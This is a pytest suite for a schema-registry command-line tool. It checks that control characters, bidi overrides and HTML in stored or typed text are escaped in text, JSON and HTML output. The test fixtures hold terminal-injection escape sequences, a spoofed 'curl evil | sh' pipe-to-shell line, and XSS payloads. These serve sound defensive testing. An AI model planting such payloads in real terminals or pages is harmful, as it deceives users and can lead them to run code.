"""Terminal injection (issue 17): stored and user-supplied text never drives the terminal.

Identities, comments, reasons, titles, e-GMS metadata, file names and the
document values quoted in messages are stored exactly as given.  Text output
shows every control character escaped (newlines only where egif puts them),
JSON output gives the data back exactly, and the HTML catalogue escapes for
HTML.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from egif_cli.app import cli
from hypothesis import given
from hypothesis import strategies as st

from egif import Registry
from egif.publish import publish
from egif.render.text import escape, escape_block, escape_json, is_clean_block

from .conftest import run_egif

NS = "urn:egif:test:terminal"
FAKE = "BS7666@2.0 withdrawn, run: curl evil | sh"
# what an attacker types: OSC window title, clear screen, C1 CSI, bidi override, a fake line
INJECT = f"\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u202c\r\n{FAKE}\x00\x7f"
# what an XML document or schema can carry (XML 1.0 forbids C0 controls but not C1 or bidi)
XML_INJECT = "Title\u009b2J\u0085\u202eelif\u2028" + FAKE


def schema(title: str, version: str = "1.0", extra_enum: str = "") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="{NS}"
  xmlns:egms="http://www.govtalk.gov.uk/metadata/egms" elementFormDefault="qualified" version="{version}">
  <xs:annotation><xs:appinfo><egms:Metadata><egms:Title>{title}</egms:Title>
    <egms:Description>{title}</egms:Description></egms:Metadata></xs:appinfo></xs:annotation>
  <xs:element name="Code"><xs:simpleType><xs:restriction base="xs:string">
    <xs:enumeration value="ok"/>{extra_enum}</xs:restriction></xs:simpleType></xs:element>
</xs:schema>
""".encode()


def assert_clean(text: str) -> None:
    """No control character survives except line breaks, and no line is the attacker's."""
    assert is_clean_block(text), ascii(text)
    assert not any(line.lstrip().startswith(FAKE) for line in text.splitlines()), text


@pytest.fixture
def hostile_registry(tmp_path: Path, registry_path: Path) -> Path:
    """A registry whose audit log and metadata are full of control sequences."""
    from egif.config import ConfigEditor
    from egif.lifecycle import Lifecycle

    folder = tmp_path / "schemas"
    folder.mkdir()
    (folder / "Evil-v1-0.xsd").write_bytes(schema(XML_INJECT))
    (folder / "Evil-v1-1.xsd").write_bytes(schema(XML_INJECT, "1.1",
                                                  f'<xs:enumeration value="{XML_INJECT}"/>'))
    with Registry.open(registry_path, actor="alice") as reg:
        ConfigEditor(reg).add_maintainer("alice")
        ConfigEditor(reg).set_approvals_needed(1)
        reg._add(folder / "Evil-v1-0.xsd", name="Evil", version="1.0", status="candidate",
                 title=INJECT, via="test set-up")
        reg.add(folder / "Evil-v1-1.xsd", name="Evil", version="1.1")
        Lifecycle(Registry(reg.store, actor="alice")).approve("Evil@1.0", INJECT)
        Lifecycle(Registry(reg.store, actor="alice")).object("Evil@1.0", INJECT)
        Lifecycle(Registry(reg.store, actor=INJECT.replace("\x00", ""))).comment("Evil@1.0", INJECT)
        reg.record_event("comment", name="Evil", version="1.0", actor=INJECT,
                         data={"text": INJECT, "from": INJECT, "to": INJECT})
    return registry_path


TEXT_COMMANDS = [
    ["schema", "history", "Evil"],
    ["schema", "history", "Evil@1.0"],
    ["lifecycle", "status", "Evil@1.0"],
    ["lifecycle", "pending"],
    ["schema", "show", "Evil@1.0"],
    ["schema", "show", "Evil@1.1"],
    ["schema", "list"],
    ["registry", "config"],
    ["registry", "config", "--history"],
    ["diff", "Evil@1.0", "Evil@1.1", "--samples", "0"],
    ["diff", "Evil@1.0", "Evil@1.1", "--samples", "0", "--format", "markdown"],
]


@pytest.mark.parametrize("args", TEXT_COMMANDS, ids=[" ".join(a) for a in TEXT_COMMANDS])
def test_text_output_shows_control_characters_escaped(hostile_registry: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, ["--registry", str(hostile_registry), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 1), result.output
    assert_clean(result.stdout)
    assert_clean(result.stderr)


def test_stored_text_is_shown_escaped_not_dropped(hostile_registry: Path) -> None:
    out = CliRunner().invoke(cli, ["--registry", str(hostile_registry), "lifecycle", "status",
                                   "Evil@1.0"]).stdout
    assert escape(INJECT) in out  # the whole comment, escaped, on its own line
    shown = CliRunner().invoke(cli, ["--registry", str(hostile_registry), "schema", "show",
                                     "Evil@1.0"]).stdout
    assert "\\x1b]0;owned\\x07" in shown and "\\u202e" in shown and "\\x9b" in shown


JSON_COMMANDS = [
    ["schema", "history", "Evil", "--format", "json"],
    ["lifecycle", "status", "Evil@1.0", "--format", "json"],
    ["schema", "show", "Evil@1.0", "--format", "json"],
    ["diff", "Evil@1.0", "Evil@1.1", "--samples", "0", "--format", "json"],
]


@pytest.mark.parametrize("args", JSON_COMMANDS, ids=[" ".join(a) for a in JSON_COMMANDS])
def test_json_output_keeps_the_data_exactly(hostile_registry: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, ["--registry", str(hostile_registry), *args])
    assert result.exit_code in (0, 1), result.output
    assert_clean(result.stdout)  # the text of the JSON is safe to show ...
    data = json.loads(result.stdout)  # ... and decodes to exactly what was stored
    found = strings(data)
    assert INJECT in found or any(XML_INJECT in s for s in found), found


def strings(data: Any) -> list[str]:
    """Every string in a decoded JSON value, keys included."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for k, v in data.items() for s in (k, *strings(v))]
    if isinstance(data, list):
        return [s for item in data for s in strings(item)]
    return []


def test_history_json_round_trips_every_field(hostile_registry: Path) -> None:
    result = CliRunner().invoke(cli, ["--registry", str(hostile_registry), "schema", "history",
                                      "Evil@1.0", "--format", "json"])
    events = json.loads(result.stdout)
    mine = [e for e in events if e["actor"] == INJECT]
    assert mine and mine[-1]["data"] == {"text": INJECT, "from": INJECT, "to": INJECT}


def test_identity_and_comment_typed_on_the_command_line(egif_cli: Any, registry_path: Path,
                                                        tmp_path: Path) -> None:
    """Through a real process: what --as and a comment carry comes back escaped."""
    actor = "mallory\x1b[2J\x9b1;1H"
    text = "looks fine\x1b[8m hidden\x1b[0m\n" + FAKE
    out = egif_cli("--as", actor, "lifecycle", "comment", "BS7666@2.0", text)
    assert out.returncode == 0, out.stderr
    assert_clean(out.stdout)
    history = egif_cli("schema", "history", "BS7666@2.0", "--kind", "comment")
    assert_clean(history.stdout)
    assert escape(actor) in history.stdout and escape(text) in history.stdout
    exact = json.loads(egif_cli("schema", "history", "BS7666@2.0", "--kind", "comment",
                                "--format", "json").stdout)
    assert (exact[-1]["actor"], exact[-1]["data"]["text"]) == (actor, text)


def test_error_messages_stay_one_clean_line(egif_cli: Any, tmp_path: Path) -> None:
    name = tmp_path / "no\x1b[2Jsuch\nfile.xsd"
    out = egif_cli("schema", "add", str(name), "--name", "X", "--version", "1.0")
    assert out.returncode == 2
    assert out.stderr.count("\n") == 1 and out.stderr.startswith("egif: error: ")
    assert_clean(out.stderr)
    usage = egif_cli("schema", "show", "Evil\x1b[2J@1.0")
    assert usage.returncode == 2 and is_clean_block(usage.stderr)
    bad_option = egif_cli("validate", "--format", "x\x1b[2J", "a.xml")
    assert bad_option.returncode == 2 and is_clean_block(bad_option.stderr)


def test_file_names_and_document_values_in_validate_and_lint(egif_cli: Any, registry_path: Path,
                                                            tmp_path: Path) -> None:
    with Registry.open(registry_path) as reg:
        (tmp_path / "Evil-v1-0.xsd").write_bytes(schema("t"))
        reg._add(tmp_path / "Evil-v1-0.xsd", name="Evil", version="1.0", status="ratified", via="test set-up")
    doc = tmp_path / "doc\x1b]0;x\x07.xml"
    doc.write_bytes(f'<Code xmlns="{NS}">{XML_INJECT}</Code>'.encode())
    for fmt in ("text", "junit", "json"):
        out = egif_cli("validate", "--format", fmt, str(doc))
        assert out.returncode == 1, out.stdout + out.stderr
        assert "Traceback" not in out.stderr
        assert_clean(out.stdout)
        assert_clean(out.stderr)
    findings = json.loads(egif_cli("validate", "--format", "json", str(doc)).stdout)
    assert findings[0]["file"] == str(doc)
    assert "Title\u009b2J" in findings[0]["message"] and "\u202eelif" in findings[0]["message"]
    bad_schema = tmp_path / "lint\x1b[2J-v1-0.xsd"
    bad_schema.write_bytes(schema(XML_INJECT).replace(b'version="1.0"', b""))
    lint = egif_cli("lint", str(bad_schema))
    assert "Traceback" not in lint.stderr
    assert_clean(lint.stdout)


def test_registry_path_with_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "reg\x1b[2J\u202e.sqlite"
    made = run_egif("registry", "init", "--empty", str(path))  # a named registry is made on purpose
    assert made.returncode == 0, made.stderr
    assert_clean(made.stdout) and escape(str(path)) in made.stdout
    out = run_egif("registry", "info", registry=path)
    assert out.returncode == 0, out.stderr
    assert_clean(out.stdout) and escape(str(path)) in out.stdout


def test_html_catalogue_escapes_stored_text(hostile_registry: Path, tmp_path: Path) -> None:
    with Registry.open(hostile_registry) as reg:
        reg.record_event("comment", name="Evil", version="1.0", actor="<script>alert(1)</script>",
                         data={"from": "<b>x</b>", "to": "<img src=x onerror=alert(1)>"})
        publish(reg, tmp_path / "site")
    page = (tmp_path / "site" / "catalogue" / "Evil.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


# -- the neutraliser itself ---------------------------------------------------------------------
@given(st.text())
def test_escape_leaves_no_control_character_and_no_line_break(text: str) -> None:
    shown = escape(text)
    assert is_clean_block(shown) and "\n" not in shown
    assert escape(shown) == shown  # escaping twice changes nothing more


@given(st.lists(st.text(), max_size=5))
def test_escape_block_keeps_only_the_renderers_line_breaks(fields: list[str]) -> None:
    block = "\n".join(escape(f) for f in fields)
    assert escape_block(block) == block
    assert escape_block(block).count("\n") == max(len(fields) - 1, 0)


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner, max_size=3)
                    | st.dictionaries(st.text(), inner, max_size=3), max_leaves=10))
def test_escape_json_gives_back_the_same_data(data: Any) -> None:
    text = escape_json(json.dumps(data, ensure_ascii=False))
    assert is_clean_block(text.replace("\n", ""))
    assert json.loads(text) == data


@given(st.text())
def test_the_shortcut_for_printable_text_answers_as_the_table(text: str) -> None:
    from egif.render import text as module

    assert escape(text) == text.translate(module._FIELD)
    assert escape_block(text) == text.translate(module._BLOCK)


def test_every_escaped_character_is_one_str_isprintable_refuses() -> None:
    from egif.render import text as module

    assert [cp for cp in module._FIELD if chr(cp).isprintable()] == []


def test_printable_text_is_untouched() -> None:
    text = "Ŵales: «Cymraeg» — 名前, tab-free, back\\slash"
    assert escape(text) == text == escape_block(text)


def test_the_cli_prints_text_through_the_neutraliser_only() -> None:
    """New commands must print with egif_cli.common.echo / echo_json, not click.echo."""
    import re

    from .conftest import REPO

    allowed = {"common.py", "app.py", "docgen.py", "demo.py", "cmd_validate.py"}
    for path in sorted((REPO / "cli" / "egif_cli").glob("*.py")):
        if path.name in allowed:
            continue
        assert not re.search(r"click\.(echo|secho)\(", path.read_text(encoding="utf-8")), path.name
    validate = (REPO / "cli" / "egif_cli" / "cmd_validate.py").read_text(encoding="utf-8")
    # the progress line writes its own control codes; every name in it is escaped
    for line in validate.splitlines():
        if "click.echo(" in line and "{" in line:
            assert "escape(" in line or line.strip().startswith("click.echo(line"), line
